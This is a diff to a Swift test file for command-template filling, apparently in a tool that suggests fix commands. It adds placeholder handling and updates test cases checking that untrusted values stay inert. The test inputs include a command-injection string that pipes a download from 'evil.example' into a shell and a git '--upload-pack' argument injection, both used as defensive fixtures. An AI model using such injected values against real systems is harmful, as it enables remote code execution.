@@ -29,6 +29,10 @@ import Testing
         commands.append(fix.filled(baseIsKnown: known, with: values(snippet)).snippet ?? "")
       }
     }
+    for fix in rule.fixes {
+      guard let change = fix.change else { continue }
+      commands.append(fix.filled(baseIsKnown: true, with: values(change.text)).change?.text ?? "")
+    }
     commands += rule.verify.map { CommandTemplate.fill($0, values($0)) }
     for text in [rule.title] + rule.causes + rule.fixes.map(\.text) where text.contains("`") {
       let filled = CommandTemplate.fillSentence(text, values(text))
@@ -43,7 +47,26 @@ import Testing
         commands.append(String(spans[i]))
       }
     }
-    return commands
+    return commands.map(withoutPlaceholders)
+  }
+
+  /// A word in place of each `<what belongs there>`, which a reader replaces and no value of a log can hold.
+  private static func withoutPlaceholders(_ command: String) -> String {
+    var result = ""
+    var rest = command[...]
+    while let open = rest.firstIndex(of: "<") {
+      result += rest[..<open]
+      rest = rest[open...].dropFirst()
+      guard rest.first?.isLetter == true, let close = rest.firstIndex(where: { "<>\n".contains($0) }),
+        rest[close] == ">"
+      else {
+        result += "<"
+        continue
+      }
+      result += "placeholder"
+      rest = rest[close...].dropFirst()
+    }
+    return result + rest
   }
 
   @Test func aHostileValueStaysOneWordInEveryCommandOfEveryRule() {
@@ -82,12 +105,12 @@ import Testing
   @Test(arguments: [
     ("git push origin {revision|v1.2.3}", "v1;curl${IFS}evil.example|sh", "git push origin v1.2.3"),
     ("git push origin {revision|v1.2.3}", "v1.9", "git push origin v1.9"),
-    ("git fetch {ref}", "--upload-pack=touch", "git fetch REF"),
+    ("git fetch {ref}", "--upload-pack=touch", "git fetch <ref>"),
     ("RUN chmod +x {path}", "my files/a (1).sh", "RUN chmod +x 'my files/a (1).sh'"),
     ("RUN chmod +x {path}", "it's", #"RUN chmod +x 'it'\''s'"#),
-    ("COPY {path} /app/", "my files/a.sh", "COPY PATH /app/"),
-    ("RUN sed -i '/{path}/d' x", "a b", "RUN sed -i '/PATH/d' x"),
-    ("RUN apt-get install {package}", "libc6-", "RUN apt-get install PACKAGE"),
+    ("COPY {path} /app/", "my files/a.sh", "COPY <path> /app/"),
+    ("RUN sed -i '/{path}/d' x", "a b", "RUN sed -i '/<path>/d' x"),
+    ("RUN apt-get install {package}", "libc6-", "RUN apt-get install <package>"),
     ("RUN apt-get install -y \\\n    {package}", "g++", "RUN apt-get install -y \\\n    g++"),
     ("FROM golang:{needed|1.25}", ">= 1.27", "FROM golang:1.25"),
     ("echo ${package}", "x", "echo ${package}"),
